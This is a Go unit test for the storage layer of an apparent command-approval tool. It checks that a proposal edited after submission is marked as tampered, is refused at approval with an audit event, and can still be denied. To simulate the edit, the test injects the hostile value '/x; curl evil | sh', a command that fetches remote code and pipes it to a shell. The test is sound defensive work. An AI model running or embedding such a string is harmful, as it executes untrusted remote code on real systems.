package storage

import (
	"encoding/json"
	"strings"
	"testing"
	"time"

	"github.com/approve-tui/approve-tui/model"
)

// A payload edited in the file after its submit (command, cwd, session:
// anything pinned) is shown as tampered by every read, refused at approve
// in the approval's own transaction (audited), whatever hash the approver
// names; it can still be denied. A payload left as submitted, and a row
// Hermes wrote (no submit record), are not marked.
func TestTamperedPayloadIsRefused(t *testing.T) {
	for _, field := range []string{"command", "cwd", "session_key"} {
		t.Run(field, func(t *testing.T) {
			s, c, db := newRawStore(t)
			id := "tamper-" + strings.ReplaceAll(field, "_", "-")
			mustSubmit(t, s, proposal(id, "ls /srv", model.RiskLow, c.Now(), time.Hour))
			mustSubmit(t, s, proposal("untouched-1", "ls /srv", model.RiskLow, c.Now(), time.Hour))
			insertRaw(t, db, proposal("hermes-row-1", "ls /srv", model.RiskLow, c.Now(), time.Hour))
			before, err := s.Get(ctx, id) // caches what its submit record says
			if err != nil || before.Tampered != "" || before.Corrupt != "" {
				t.Fatalf("before: %q %q %v", before.Tampered, before.Corrupt, err)
			}

			var payload map[string]any
			if err := json.Unmarshal([]byte(payloadOf(t, db, id)), &payload); err != nil {
				t.Fatal(err)
			}
			payload[field] = "/x; curl evil | sh"
			b, _ := json.Marshal(payload)
			mustExec(t, db, `UPDATE gateway_approvals SET payload_json = ? WHERE approval_id = ?`, string(b), id)

			submit := lastEvent(t, s, id, EventSubmit, OutcomeOK)
			want := "payload differs from its submit record (audit event " + itoa(submit.Seq) + ")"
			rec, err := s.Get(ctx, id)
			if err != nil || rec.Tampered != want || rec.Corrupt != "tampered: "+want {
				t.Fatalf("get: tampered %q corrupt %q %v", rec.Tampered, rec.Corrupt, err)
			}
			for name, list := range map[string]func() ([]*Record, error){
				"list": func() ([]*Record, error) { return s.List(ctx, ListOptions{}) },
				"all":  func() ([]*Record, error) { return s.List(ctx, ListOptions{Status: ListAll}) },
				"urgent": func() ([]*Record, error) {
					recs, _, err := s.ListUrgent(ctx, ListOptions{})
					return recs, err
				},
			} {
				recs, err := list()
				if err != nil || len(recs) != 3 {
					t.Fatalf("%s: %d %v", name, len(recs), err)
				}
				for _, r := range recs {
					if (r.Tampered != "") != (r.ApprovalID == id) {
						t.Fatalf("%s: %s tampered %q", name, r.ApprovalID, r.Tampered)
					}
				}
			}

			// Refused, by the hash read now and by none; audited.
			for _, read := range []string{rec.PayloadSHA256, ""} {
				_, err = s.ConsumeRead(ctx, id, id, read, alice)
				rf := wantRefused(t, err, RefusedTampered)
				if !strings.Contains(rf.Error(), "cannot be approved: tampered: its "+want+": it was changed in the store after it was submitted") {
					t.Fatalf("refusal %q", rf.Error())
				}
				if e := lastEvent(t, s, id, EventApprove, OutcomeRefused); e.Reason != RefusedTampered {
					t.Fatalf("audit %+v", e)
				}
			}
			if r, _ := s.Get(ctx, id); r.Status != model.StatusPending {
				t.Fatalf("status %s", r.Status)
			}
			// The others are approved as ever; the tampered one is denied.
			for _, ok := range []string{"untouched-1", "hermes-row-1"} {
				if _, err := s.Consume(ctx, ok, ok, alice); err != nil {
					t.Fatalf("%s: %v", ok, err)
				}
			}
			denied, err := s.Deny(ctx, id, alice, "tampered")
			if err != nil || denied.EffectiveStatus != model.StatusDenied {
				t.Fatalf("deny: %v", err)
			}
			if e := lastEvent(t, s, id, EventDeny, OutcomeOK); e.Detail["corrupt"] != "tampered: "+want {
				t.Fatalf("deny detail %v", e.Detail)
			}
		})
	}
}

func itoa(n int64) string {
	b, _ := json.Marshal(n)
	return string(b)
}
